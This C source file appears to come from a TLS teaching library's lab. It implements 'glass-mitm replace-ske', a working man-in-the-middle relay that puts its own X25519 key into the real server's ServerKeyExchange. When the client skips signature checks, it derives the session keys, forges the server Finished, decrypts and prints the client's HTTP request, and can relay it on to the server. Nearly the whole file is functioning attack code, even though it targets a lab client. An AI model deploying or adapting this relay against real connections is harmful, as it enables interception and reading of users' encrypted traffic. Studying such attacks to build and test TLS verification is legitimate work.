/*
 * replace.c — glass-mitm replace-ske: the ServerKeyExchange of lab 4 with
 * the relay's own key in it (docs/labs/downgrade.md).
 *
 * The client (--listen) wants an ECDHE_RSA suite; the relay passes its
 * ClientHello to the real server (--connect) and the server's ServerHello
 * and Certificate back, so the client sees the real server's certificate.
 * In the ServerKeyExchange (RFC 8422 5.4) it puts the public half of an
 * X25519 key pair of its own in place of the server's, and leaves the
 * signature as the server made it: over the two randoms and the server's
 * params (RFC 5246 7.4.3), which no longer are the params in the message.
 * The real server is then dropped: from ServerHelloDone on, the relay is
 * the server.
 *
 * A client that checks the signature (the normal glass-client) refuses
 * the message with decrypt_error, and that is the end of it.  A client
 * that does not (the lab glass-client, --lab skip-ske-signature) sends its
 * ClientKeyExchange, and its X25519 agreement is with the relay: the relay
 * derives the premaster, the master secret (RFC 7627 when both hellos ask
 * for it, else RFC 5246 8.1), the key block (6.3), checks the client's
 * Finished, sends its own (7.4.9), reads the client's HTTP request in the
 * clear and answers it.
 *
 * Every handshake message is gathered across records and every length is
 * checked against its container; what the relay does not handle (another
 * suite or group, a session ticket, a client certificate) it refuses and
 * says why.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "glasstls/ct.h"
#include "glasstls/drbg.h"
#include "glasstls/gcm.h"
#include "glasstls/prf.h"
#include "glasstls/sha2.h"
#include "glasstls/tls.h"
#include "glasstls/x509.h"
#include "glasstls/x25519.h"

#include "mitm.h"

/* handshake bytes of one direction, gathered across records */
typedef struct hs_stream {
    uint8_t b[MITM_MAX_HS];
    size_t len;
    uint16_t version;                 /* the record version, for what we send */
} hs_stream;

/* one direction of the record protection (RFC 5288 3) */
typedef struct gcm_dir {
    glass_gcm gcm;
    uint8_t salt[4];
    uint64_t seq;
} gcm_dir;

typedef struct mitm {
    mitm_side cl, sv;
    hs_stream from_cl, from_sv;
    uint8_t transcript[MITM_MAX_HS];  /* the handshake as the client sees it */
    size_t tlen;
    uint8_t client_random[32], server_random[32];
    uint16_t suite;
    glass_hash_id hash;
    size_t key_len;
    int ems;
    uint8_t priv[32], pub[32];        /* the relay's X25519 key */
    uint8_t master[GLASS_MASTER_SECRET_SIZE];
    gcm_dir to_cl, from_cl_dir;
    double t0, deadline;
    const char *connect_to;
    const char *forward_ca;           /* --forward CAFILE: relay to the real server */
    const char *forward_name;         /* the name its certificate must have */
} mitm;

static size_t be(const uint8_t *p, int n)
{
    size_t v = 0;
    for (int i = 0; i < n; i++)
        v = v << 8 | p[i];
    return v;
}

static void put_be(uint8_t *p, uint64_t v, int n)
{
    for (int i = n - 1; i >= 0; i--, v >>= 8)
        p[i] = (uint8_t)v;
}

static void hex(const uint8_t *p, size_t n)
{
    for (size_t i = 0; i < n; i++)
        printf("%02x", p[i]);
}

static void say(const mitm *m, const char *fmt, const char *a)
{
    printf("%7.3f s  ", lab_now() - m->t0);
    printf(fmt, a);
    printf("\n");
    fflush(stdout);
}

/* The next whole handshake message from s, at h->b (4 + body bytes):
 * its length; -2 when an alert came instead (printed), -1 otherwise. */
static long next_message(mitm *m, mitm_side *s, hs_stream *h)
{
    for (;;) {
        if (h->len >= 4 && h->len - 4 >= be(h->b + 1, 3))
            return (long)(4 + be(h->b + 1, 3));
        if (h->len >= 4 && be(h->b + 1, 3) > sizeof h->b - 4) {
            say(m, "refused: a handshake message of more than 64 KB from the %s", s->name);
            return -1;
        }
        long n = mitm_wait_record(s, m->deadline);
        if (n < 0) {
            say(m, "the %s closed the connection, timed out or sent what is not TLS", s->name);
            return -1;
        }
        const uint8_t *rec = s->buf;
        size_t body = (size_t)n - MITM_HDR;
        if (rec[0] == 21 && body == 2) {
            printf("%7.3f s  %s -> relay: alert %s %s\n", lab_now() - m->t0, s->name,
                   rec[MITM_HDR] == 2 ? "fatal" : "warning", mitm_alert_name(rec[MITM_HDR + 1]));
            fflush(stdout);
            mitm_consume(s, (size_t)n);
            return -2;
        }
        if (rec[0] != 22 || body > sizeof h->b - h->len) {
            say(m, "refused: an unexpected record from the %s", s->name);
            return -1;
        }
        h->version = (uint16_t)be(rec + 1, 2);
        memcpy(h->b + h->len, rec + MITM_HDR, body);
        h->len += body;
        mitm_consume(s, (size_t)n);
    }
}

static void pop_message(hs_stream *h, size_t n)
{
    memmove(h->b, h->b + n, h->len - n);
    h->len -= n;
}

/* A handshake message to fd, in records of at most 2^14 bytes. */
static int send_plain(int fd, uint8_t type, uint16_t version, const uint8_t *p, size_t n)
{
    for (size_t off = 0; off < n || n == 0;) {
        size_t k = n - off > 16384 ? 16384 : n - off;
        uint8_t h[MITM_HDR] = { type, (uint8_t)(version >> 8), (uint8_t)version,
                                (uint8_t)(k >> 8), (uint8_t)k };
        if (lab_write_all(fd, h, sizeof h) != 0 || lab_write_all(fd, p + off, k) != 0)
            return -1;
        off += k;
        if (n == 0)
            break;
    }
    return 0;
}

static int add_transcript(mitm *m, const uint8_t *p, size_t n)
{
    if (n > sizeof m->transcript - m->tlen)
        return -1;
    memcpy(m->transcript + m->tlen, p, n);
    m->tlen += n;
    return 0;
}

/* In an extension block at p[0..n) (its 2-byte length first, or nothing
 * at all): 1 when extension `type` is there, 0 when not, -1 malformed. */
static int has_extension(const uint8_t *p, size_t n, uint16_t type)
{
    if (n == 0)
        return 0;
    if (n < 2 || be(p, 2) != n - 2)
        return -1;
    int found = 0;
    for (size_t pos = 2; pos < n;) {
        if (n - pos < 4 || be(p + pos + 2, 2) > n - pos - 4)
            return -1;
        found |= be(p + pos, 2) == type;
        pos += 4 + be(p + pos + 2, 2);
    }
    return found;
}

#define EXT_EMS 23           /* RFC 7627 */
#define EXT_TICKET 35        /* RFC 5077 */

/* ClientHello (RFC 5246 7.4.1.2): the random and whether EMS is asked */
static int read_client_hello(mitm *m, const uint8_t *p, size_t n)
{
    size_t pos = 4 + 2;
    if (p[0] != 1 || n < pos + 32 + 1)
        return -1;
    memcpy(m->client_random, p + pos, 32);
    pos += 32;
    if (p[pos] > 32 || n - pos - 1 < (size_t)p[pos] + 2)
        return -1;
    pos += 1 + p[pos];
    size_t sl = be(p + pos, 2);
    if (sl < 2 || sl % 2 || n - pos - 2 < sl + 1)
        return -1;
    pos += 2 + sl;
    if (p[pos] < 1 || n - pos - 1 < p[pos])
        return -1;
    pos += 1 + p[pos];
    int e = has_extension(p + pos, n - pos, EXT_EMS);
    if (e < 0)
        return -1;
    m->ems = e;
    return 0;
}

/* ServerHello (7.4.1.3): the random, the suite, EMS, no ticket */
static int read_server_hello(mitm *m, const uint8_t *p, size_t n)
{
    size_t pos = 4 + 2;
    if (p[0] != 2 || n < pos + 32 + 1)
        return -1;
    memcpy(m->server_random, p + pos, 32);
    pos += 32;
    if (p[pos] > 32 || n - pos - 1 < (size_t)p[pos] + 3)
        return -1;
    pos += 1 + p[pos];
    m->suite = (uint16_t)be(p + pos, 2);
    pos += 3;                                        /* suite, compression */
    int e = has_extension(p + pos, n - pos, EXT_EMS);
    int t = has_extension(p + pos, n - pos, EXT_TICKET);
    if (e < 0 || t < 0)
        return -1;
    m->ems &= e;
    const char *name = mitm_suite_name(m->suite);
    printf("%7.3f s  server -> client: ServerHello, suite 0x%04X %s, extended master secret %s\n",
           lab_now() - m->t0, m->suite, name ? name : "", m->ems ? "yes" : "no");
    if (m->suite == 0xC02F)
        m->hash = GLASS_HASH_SHA256, m->key_len = 16;
    else if (m->suite == 0xC030)
        m->hash = GLASS_HASH_SHA384, m->key_len = 32;
    else {
        say(m, "refused: %s", "replace-ske handles ECDHE_RSA with AES-GCM only (0xC02F, 0xC030)");
        return -1;
    }
    if (t) {
        say(m, "refused: %s", "the server sends a session ticket; replace-ske does not make one");
        return -1;
    }
    return 0;
}

/* ServerKeyExchange (RFC 8422 5.4): ECParameters (curve_type 3,
 * named_group), the point <1..2^8-1>, then the signature: the relay's
 * public key goes where the server's was; nothing else changes.  0 done,
 * -1 malformed, -2 refused (said why). */
static int replace_key(mitm *m, uint8_t *p, size_t n)
{
    if (p[0] != 12 || n < 4 + 4)
        return -1;
    uint8_t *b = p + 4;
    size_t bn = n - 4;
    size_t plen = b[3];
    if (b[0] != 3 || bn < 4 + plen + 4 || be(b + 4 + plen + 2, 2) != bn - 4 - plen - 4)
        return -1;
    if (be(b + 1, 2) != 0x001D || plen != 32) {
        say(m, "refused: %s", "the server's group is not x25519 (glass-client --groups x25519)");
        return -2;
    }
    printf("%7.3f s  server -> client: ServerKeyExchange, x25519; sigalg 0x%04zX, %zu-byte signature\n"
           "           the server's key: ", lab_now() - m->t0, be(b + 4 + plen, 2),
           be(b + 4 + plen + 2, 2));
    hex(b + 4, 32);
    printf("\n           REPLACED by ours: ");
    hex(m->pub, 32);
    printf("\n           the signature is left as the server made it: over the server's key, "
           "not this one\n");
    memcpy(b + 4, m->pub, 32);
    return 0;
}

/* AES-GCM record protection of TLS (RFC 5288 3, RFC 5246 6.2.3.3): the
 * nonce is salt || explicit (8, the sequence number here), the AAD
 * seq || type || version || plaintext length. */
static void nonce_aad(const gcm_dir *d, uint8_t type, uint16_t version, size_t len,
                      const uint8_t explicit_nonce[8], uint8_t nonce[12], uint8_t aad[13])
{
    memcpy(nonce, d->salt, 4);
    memcpy(nonce + 4, explicit_nonce, 8);
    put_be(aad, d->seq, 8);
    aad[8] = type;
    put_be(aad + 9, version, 2);
    put_be(aad + 11, len, 2);
}

/* Opens the record at rec (whole, header included) into out: the
 * plaintext length, or -1 (tag, length). */
static long open_record(gcm_dir *d, const uint8_t *rec, size_t n, uint8_t *out)
{
    if (n < MITM_HDR + 8 + 16)
        return -1;
    size_t len = n - MITM_HDR - 8 - 16;
    uint8_t nonce[12], aad[13];
    nonce_aad(d, rec[0], (uint16_t)be(rec + 1, 2), len, rec + MITM_HDR, nonce, aad);
    if (glass_gcm_open(&d->gcm, nonce, 12, aad, 13, rec + MITM_HDR + 8, len,
                       rec + MITM_HDR + 8 + len, 16, out) != 0)
        return -1;
    d->seq++;
    return (long)len;
}

static int seal_send(gcm_dir *d, int fd, uint8_t type, const uint8_t *pt, size_t len)
{
    static uint8_t rec[MITM_HDR + 8 + 16384 + 16];
    if (len > 16384)
        return -1;
    uint8_t nonce[12], aad[13];
    rec[0] = type;
    put_be(rec + 1, 0x0303, 2);
    put_be(rec + 3, 8 + len + 16, 2);
    put_be(rec + MITM_HDR, d->seq, 8);
    nonce_aad(d, type, 0x0303, len, rec + MITM_HDR, nonce, aad);
    if (glass_gcm_seal(&d->gcm, nonce, 12, aad, 13, pt, len, rec + MITM_HDR + 8,
                       rec + MITM_HDR + 8 + len, 16) != 0)
        return -1;
    d->seq++;
    return lab_write_all(fd, rec, MITM_HDR + 8 + len + 16);
}

/* From ClientKeyExchange: the premaster, the master secret, the keys */
static int derive(mitm *m, const uint8_t *cke, size_t n)
{
    if (cke[0] != 16 || n != 4 + 1 + 32 || cke[4] != 32) {
        say(m, "refused: %s", "a ClientKeyExchange that is not one X25519 point");
        return -1;
    }
    uint8_t premaster[32], hash[GLASS_HASH_MAX_SIZE], kb[2 * 32 + 2 * 4];
    if (glass_x25519_shared(premaster, m->priv, cke + 5) != 0)
        return -1;
    printf("%7.3f s  client -> server: ClientKeyExchange, the client's x25519 key: ",
           lab_now() - m->t0);
    hex(cke + 5, 32);
    printf("\n           premaster = X25519(our private key, the client's key): ");
    hex(premaster, 32);
    printf("\n");
    int err;
    if (m->ems) {                     /* RFC 7627 4: the session hash, to CKE included */
        glass_hash(m->hash, m->transcript, m->tlen, hash);
        err = glass_extended_master_secret(m->hash, premaster, 32, hash, glass_hash_size(m->hash),
                                           m->master);
    } else {
        err = glass_master_secret(m->hash, premaster, 32, m->client_random, m->server_random,
                                  m->master);
    }
    glass_wipe(premaster, sizeof premaster);
    size_t kl = m->key_len;
    if (err == 0)
        err = glass_key_block(m->hash, m->master, m->client_random, m->server_random, kb,
                              2 * kl + 8);
    /* no MAC keys with AEAD: client key, server key, client IV, server IV */
    if (err == 0)
        err = glass_gcm_init(&m->from_cl_dir.gcm, kb, kl);
    if (err == 0)
        err = glass_gcm_init(&m->to_cl.gcm, kb + kl, kl);
    memcpy(m->from_cl_dir.salt, kb + 2 * kl, 4);
    memcpy(m->to_cl.salt, kb + 2 * kl + 4, 4);
    printf("           master secret (%s): ", m->ems ? "RFC 7627" : "RFC 5246 8.1");
    hex(m->master, sizeof m->master);
    printf("\n           client_write_key: ");
    hex(kb, kl);
    printf("\n");
    glass_wipe(kb, sizeof kb);
    fflush(stdout);
    return err == 0 ? 0 : -1;
}

/* 1 when the HTTP request's header block is complete (an empty line) */
static int headers_end(const uint8_t *p, size_t n)
{
    for (size_t i = 0; i + 4 <= n; i++)
        if (memcmp(p + i, "\r\n\r\n", 4) == 0)
            return 1;
    return 0;
}

static const char answer_body[] =
    "glass-mitm answered this: the relay holds this connection's keys.\n"
    "The certificate was the real server's, the key exchange was with the relay.\n";

/* --forward: the request, over a TLS connection of our own to the real
 * server (a normal glasstls client, which checks the server's certificate
 * and signature: the relay is a client like any other there), and the
 * response back into resp.  Its length, or -1. */
static long forward(mitm *m, const uint8_t *req, size_t req_len, uint8_t *resp, size_t cap)
{
    glass_x509_list trust;
    glass_x509_list_init(&trust);
    int rc = glass_x509_list_load_file(&trust, m->forward_ca);
    if (rc != 0 || trust.count == 0) {
        printf("replace-ske: --forward %s: %s\n", m->forward_ca,
               rc != 0 ? glass_strerror(rc) : "no certificate");
        glass_x509_list_free(&trust);
        return -1;
    }
    glass_config cfg;
    glass_config_init(&cfg, GLASS_ROLE_CLIENT);
    cfg.trust = &trust;
    cfg.server_name = m->forward_name;
    glass_conn *c = NULL;
    long total = -1, n = 0;
    int fd = lab_connect("glass-mitm", m->connect_to);
    if (fd < 0 || glass_conn_new(&c, &cfg, glass_transport_fd(fd)) != 0)
        goto out;
    if ((rc = glass_handshake(c)) != 0) {
        printf("replace-ske: our own connection to the server failed: %s\n", glass_strerror(rc));
        goto out;
    }
    const char *sn = mitm_suite_name(glass_conn_suite(c));
    printf("%7.3f s  relay -> server: a TLS connection of our own (%s, certificate checked), "
           "the request forwarded\n", lab_now() - m->t0, sn ? sn : "?");
    if (glass_write(c, req, req_len) != (long)req_len)
        goto out;
    total = 0;
    while ((size_t)total < cap && (n = glass_read(c, resp + total, cap - (size_t)total)) > 0)
        total += n;
    if (n != GLASS_E_CLOSED && n != 0 && (size_t)total < cap)
        printf("replace-ske: reading the server's response: %s\n", glass_strerror((int)n));
    glass_close(c);
out:
    glass_conn_free(c);
    if (fd >= 0)
        close(fd);
    glass_x509_list_free(&trust);
    return total;
}

static int serve_client(mitm *m)
{
    mitm_side *cl = &m->cl;
    static uint8_t pt[MITM_MAX_BODY];
    long n;
    /* ChangeCipherSpec, then Finished under the client's write key */
    if ((n = mitm_wait_record(cl, m->deadline)) < 0 || cl->buf[0] != 20 || n != MITM_HDR + 1 ||
        cl->buf[MITM_HDR] != 1) {
        say(m, "refused: %s", "no ChangeCipherSpec from the client");
        return -1;
    }
    mitm_consume(cl, (size_t)n);
    if ((n = mitm_wait_record(cl, m->deadline)) < 0 || cl->buf[0] != 22) {
        say(m, "refused: %s", "no Finished from the client");
        return -1;
    }
    long len = open_record(&m->from_cl_dir, cl->buf, (size_t)n, pt);
    mitm_consume(cl, (size_t)n);
    uint8_t hash[GLASS_HASH_MAX_SIZE], want[12], fin[4 + 12] = { 20, 0, 0, 12 };
    size_t hl = glass_hash_size(m->hash);
    glass_hash(m->hash, m->transcript, m->tlen, hash);
    if (len != 16 || memcmp(pt, fin, 4) != 0 ||
        glass_finished_verify_data(m->hash, m->master, 1, hash, hl, want) != 0 ||
        memcmp(pt + 4, want, 12) != 0) {
        say(m, "the client's Finished does not open or match with our keys (%s)", "a bug?");
        return -1;
    }
    printf("%7.3f s  client -> server: ChangeCipherSpec, Finished: opens with the keys we "
           "derived and matches (verify_data ", lab_now() - m->t0);
    hex(want, 12);
    printf(")\n");
    add_transcript(m, pt, 16);
    /* ours: ChangeCipherSpec and Finished over everything, the client's Finished included */
    glass_hash(m->hash, m->transcript, m->tlen, hash);
    if (glass_finished_verify_data(m->hash, m->master, 0, hash, hl, fin + 4) != 0)
        return -1;
    static const uint8_t ccs = 1;
    if (send_plain(cl->fd, 20, 0x0303, &ccs, 1) != 0 ||
        seal_send(&m->to_cl, cl->fd, 22, fin, sizeof fin) != 0)
        return -1;
    say(m, "relay -> client: ChangeCipherSpec, Finished (ours)%s", ": the handshake is complete");
    /* the request, in the clear for us */
    size_t got = 0;
    static uint8_t req[16384];
    while (!headers_end(req, got)) {
        if ((n = mitm_wait_record(cl, m->deadline)) < 0)
            break;
        uint8_t type = cl->buf[0];
        len = open_record(&m->from_cl_dir, cl->buf, (size_t)n, pt);
        mitm_consume(cl, (size_t)n);
        if (len < 0) {
            say(m, "a record of the client does not open (%s)", "bad tag");
            return -1;
        }
        if (type != 23)
            break;
        size_t k = (size_t)len < sizeof req - got ? (size_t)len : sizeof req - got;
        memcpy(req + got, pt, k);
        got += k;
    }
    printf("%7.3f s  client -> server: application data, DECRYPTED by the relay (%zu bytes):\n",
           lab_now() - m->t0, got);
    printf("---- the client's request ----\n%.*s---- end ----\n", (int)got, (const char *)req);
    static uint8_t resp[256 * 1024];
    long rl;
    if (m->forward_ca != NULL) {
        if ((rl = forward(m, req, got, resp, sizeof resp)) < 0)
            return -1;
        size_t line = 0;
        while (line < (size_t)rl && resp[line] != '\r' && resp[line] != '\n')
            line++;
        printf("%7.3f s  server -> relay: %ld bytes of response, in the clear for us: %.*s\n",
               lab_now() - m->t0, rl, (int)line, (const char *)resp);
        printf("---- the server's response%s ----\n%.*s\n---- end ----\n",
               rl > 1024 ? " (its first 1024 bytes)" : "", (int)(rl > 1024 ? 1024 : rl),
               (const char *)resp);
    } else {
        rl = snprintf((char *)resp, sizeof resp,
                      "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %zu\r\n"
                      "Connection: close\r\n\r\n%s", sizeof answer_body - 1, answer_body);
    }
    static const uint8_t close_notify[2] = { 1, 0 };
    for (long off = 0; off < rl; off += 16384)
        if (seal_send(&m->to_cl, cl->fd, 23, resp + off,
                      (size_t)(rl - off > 16384 ? 16384 : rl - off)) != 0)
            return -1;
    if (seal_send(&m->to_cl, cl->fd, 21, close_notify, 2) != 0)
        return -1;
    shutdown(cl->fd, SHUT_WR);
    say(m, "relay -> client: %s, and close_notify",
        m->forward_ca != NULL ? "the server's response, re-sealed under the client's keys"
                              : "our own HTTP response");
    /* the client's close_notify, then the end */
    while ((n = mitm_wait_record(cl, lab_now() + 2)) > 0) {
        uint8_t type = cl->buf[0];
        len = open_record(&m->from_cl_dir, cl->buf, (size_t)n, pt);
        mitm_consume(cl, (size_t)n);
        if (type == 21 && len == 2)
            say(m, "client -> server: alert %s (decrypted)", mitm_alert_name(pt[1]));
    }
    return 0;
}

static int run(mitm *m)
{
    long n;
    /* ClientHello: to the server as it is */
    if ((n = next_message(m, &m->cl, &m->from_cl)) < 0)
        return -1;
    if (read_client_hello(m, m->from_cl.b, (size_t)n) != 0) {
        say(m, "refused: %s", "not a well-formed ClientHello");
        return -1;
    }
    say(m, "client -> server: ClientHello, passed on%s", m->ems ? " (asks for EMS)" : "");
    if (add_transcript(m, m->from_cl.b, (size_t)n) != 0 ||
        send_plain(m->sv.fd, 22, m->from_cl.version, m->from_cl.b, (size_t)n) != 0)
        return -1;
    pop_message(&m->from_cl, (size_t)n);
    /* the server's flight, to ServerHelloDone */
    for (int done = 0; !done;) {
        if ((n = next_message(m, &m->sv, &m->from_sv)) < 0)
            return -1;
        uint8_t *msg = m->from_sv.b;
        int bad = 0;
        switch (msg[0]) {
        case 2:  bad = read_server_hello(m, msg, (size_t)n); break;
        case 11: say(m, "server -> client: Certificate, the real server's, passed on%s", ""); break;
        case 12:
            bad = replace_key(m, msg, (size_t)n);
            if (bad == -1)
                say(m, "refused: %s", "a ServerKeyExchange that does not parse");
            break;
        case 14: say(m, "server -> client: ServerHelloDone; the server is dropped now%s", ""); done = 1; break;
        default:
            printf("refused: handshake message type %u from the server (not handled)\n", msg[0]);
            bad = 1;
        }
        if (bad || add_transcript(m, msg, (size_t)n) != 0 ||
            send_plain(m->cl.fd, 22, 0x0303, msg, (size_t)n) != 0)
            return -1;
        pop_message(&m->from_sv, (size_t)n);
    }
    close(m->sv.fd);
    m->sv.fd = -1;
    /* the client's answer: its ClientKeyExchange, or an alert */
    n = next_message(m, &m->cl, &m->from_cl);
    if (n == -2) {
        printf("replace-ske: the client refused our ServerKeyExchange: it checked the signature\n");
        return 1;
    }
    if (n < 0 || add_transcript(m, m->from_cl.b, (size_t)n) != 0 ||
        derive(m, m->from_cl.b, (size_t)n) != 0)
        return -1;
    pop_message(&m->from_cl, (size_t)n);
    if (m->from_cl.len != 0) {
        say(m, "refused: %s", "more handshake after ClientKeyExchange before ChangeCipherSpec");
        return -1;
    }
    if (serve_client(m) != 0)
        return -1;
    printf("replace-ske: ATTACK WORKED: the client took our key, %.3f s after it came; "
           "we read its request and %s\n", lab_now() - m->t0,
           m->forward_ca != NULL ? "relayed it, and read the server's answer"
                                 : "answered it ourselves");
    return 0;
}

static void usage(void)
{
    fprintf(stderr, "usage: glass-mitm replace-ske --listen 127.0.0.1:PORT --connect "
                    "127.0.0.1:PORT [--timeout S] [--forward CAFILE [--name HOST]]\n"
                    "  one ECDHE_RSA connection (x25519), with our key in its ServerKeyExchange;\n"
                    "  --forward: the decrypted request goes on to the real server over our own\n"
                    "  TLS connection (checked against CAFILE, name HOST, default localhost)\n");
}

int mitm_replace_main(int argc, char **argv)
{
    const char *listen_at = NULL, *connect_to = NULL, *ca = NULL, *name = "localhost";
    int timeout = 20;
    for (int i = 1; i < argc; i++) {
        if (strcmp(argv[i], "--listen") == 0 && i + 1 < argc) listen_at = argv[++i];
        else if (strcmp(argv[i], "--connect") == 0 && i + 1 < argc) connect_to = argv[++i];
        else if (strcmp(argv[i], "--timeout") == 0 && i + 1 < argc) timeout = atoi(argv[++i]);
        else if (strcmp(argv[i], "--forward") == 0 && i + 1 < argc) ca = argv[++i];
        else if (strcmp(argv[i], "--name") == 0 && i + 1 < argc) name = argv[++i];
        else { usage(); return 2; }
    }
    if (listen_at == NULL || connect_to == NULL || timeout <= 0) {
        usage();
        return 2;
    }
    static mitm m;
    m.connect_to = connect_to;
    m.forward_ca = ca;
    m.forward_name = name;
    m.cl.fd = m.sv.fd = -1;
    m.cl.name = "client", m.sv.name = "server";
    glass_drbg rng;
    if (glass_drbg_instantiate_os(&rng, NULL, 0) != 0 ||
        glass_x25519_keypair(m.pub, m.priv, glass_drbg_rng, &rng) != 0) {
        fprintf(stderr, "glass-mitm: no random numbers\n");
        return 2;
    }
    glass_drbg_free(&rng);
    int rc = 2, lfd = lab_listen("glass-mitm", listen_at);
    if (lfd < 0)
        return 2;
    printf("replace-ske: relaying %s -> %s, our x25519 key: ", listen_at, connect_to);
    hex(m.pub, 32);
    printf("\n");
    fflush(stdout);
    if ((m.cl.fd = lab_accept("glass-mitm", lfd, timeout)) >= 0 && (m.sv.fd = lab_connect("glass-mitm", connect_to)) >= 0) {
        m.t0 = lab_now();
        m.deadline = m.t0 + timeout;
        int r = run(&m);
        rc = r < 0 ? 2 : r;
    }
    if (rc == 2)
        printf("replace-ske: stopped\n");
    glass_wipe(m.priv, sizeof m.priv);
    glass_wipe(m.master, sizeof m.master);
    glass_gcm_free(&m.to_cl.gcm);
    glass_gcm_free(&m.from_cl_dir.gcm);
    if (m.cl.fd >= 0)
        close(m.cl.fd);
    if (m.sv.fd >= 0)
        close(m.sv.fd);
    close(lfd);
    fflush(stdout);
    return rc;
}
